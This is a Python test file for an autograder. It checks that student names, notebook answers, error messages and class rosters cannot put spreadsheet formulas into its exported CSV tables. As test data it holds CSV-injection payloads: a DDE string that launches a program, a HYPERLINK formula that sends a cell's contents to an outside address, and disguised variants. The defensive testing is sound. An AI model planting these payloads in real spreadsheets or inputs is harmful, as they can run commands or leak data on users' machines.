"""Formulas for spreadsheets in names, answers, errors and the class list: no cell of any table begins like one."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from grader.untrusted.text import csv_cell
from tests.attacks.course import MODEL, START
from tests.attacks.grading import Attack, Batch, Card, batch
from tests.support.notebooks import notebook

pytestmark = [pytest.mark.sandbox, pytest.mark.keras, pytest.mark.slow, pytest.mark.attack]

DDE = "=cmd|' -C calc'!A0"
LINK = '=HYPERLINK("http:x.invalid?"&A1,"see")'
BEGINNINGS = frozenset("=+-@|%\t\r\n")
# Names of hand-ins that hold nothing: their rows are what is attacked.
NAMES = {
    "DDE": DDE,
    "a link": LINK,
    "@": "@SUM(1+9)*cmd|' -C calc'!A0",
    "+ and -": "+1-2+cmd|' -C calc'!A0",
    "-": "-2+3",
    "behind a tab": "\t=1+1",
    "behind a carriage return": "\r=1+1",
    "behind a line": "ana\n=1+1",
    "behind wide spaces": "\u00a0\u3000=1+1",
    "behind what nobody sees": "\u200b\ufeff=1+1",
    "behind an escape sequence": "\x1b[31m=1+1",
    "a full-width sign": "＝1+1",
    "a small sign": "﹢1+1",
    "behind a semicolon": "ana;=1+1",
    "behind a semicolon and quotes": 'ana";"=1+1;"',
    "behind a comma and quotes": 'ana",=1+1,"',
}
TALKS = notebook(
    START,
    MODEL,
    f"answers['q1'] = {LINK!r}; answers['why'] = {DDE!r}; answers[{DDE!r}] = {LINK!r}",
    f"raise type({DDE!r}, (Exception,), {{}})({LINK!r})",
)


def cells(table: bytes) -> Iterator[str]:
    """Every cell that a spreadsheet could see, whichever list separator its country has."""
    text = table.decode("utf-8")
    for separator in ",;|\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row


def is_formula(cell: str) -> bool:
    """Whether a cell begins as a formula does: behind what nobody sees, and in the other forms of these signs."""
    seen = "".join(one for one in cell if unicodedata.category(one) not in ("Cf", "Zs"))
    return unicodedata.normalize("NFKC", seen[:1]) in BEGINNINGS


def table_is_safe(card: Card, graded: Batch) -> None:
    """No cell of the table is a formula, and every hand-in has one whole row."""
    table = (graded.out / "grades.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(table.decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(graded.cards)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [cell for cell in cells(table) if is_formula(cell)] == []


def words_stay_out(card: Card, graded: Batch) -> None:
    """What a notebook answers and raises stands on its card and in no table."""
    table_is_safe(card, graded)
    assert any(DDE in cell["error"] and LINK in cell["text"] for cell in card["failed"])
    table = (graded.out / "grades.csv").read_text("utf-8")
    (row,) = [row for row in csv.reader(io.StringIO(table, newline="")) if row[0] == csv_cell(DDE + LINK)]
    assert [cell for cell in row[1:] if not re.fullmatch(r"[a-z0-9.]*", cell)] == []


ATTACKS = [
    Attack(
        name="answers and errors",
        student=DDE + LINK,
        files={"": TALKS},
        credits={"*": 1, "runs": 0, "q1": 0, "why": 0},
        ended="error",
        and_then=words_stay_out,
    ),
    *(
        Attack(
            name=f"a name: {name}",
            student=student,
            files={"": b""},
            credits={"*": None},
            ended="unreadable",
            says=["is empty"],
            review=True,
            and_then=table_is_safe,
        )
        for name, student in NAMES.items()
    ),
]


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    return batch(tmp_path_factory.mktemp("family"), "light", ATTACKS, every=len(ATTACKS))


@pytest.mark.parametrize("number", range(len(ATTACKS)), ids=[attack.name for attack in ATTACKS])
def test_the_attack_earns_what_it_is_worth(graded: Batch, number: int, holds: Callable[[Batch, int], None]) -> None:
    holds(graded, number)


def test_the_answer_key_of_a_class_list_of_formulas_is_safe(
    tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["id", "name"])
        table.writerows([f"{number}{student}", student] for number, student in enumerate(NAMES.values()))
        table.writerow([DDE, LINK])
    words = [sys.executable, "-m", "grader", "release", "output-size", "--roster", "roster.csv", "-o", "out"]
    done = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, timeout=200, check=False)
    assert done.returncode == 0, done.stderr
    key = (tmp_path / "out" / "output-size" / "answers.csv").read_bytes()
    found = [cell for cell in cells(key) if is_formula(cell)]
    assert [cell for cell in found if not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []
    assert "HYPERLINK(" in key.decode("utf-8")
    record_property("attack", "a class list of formulas: the answer key holds none")
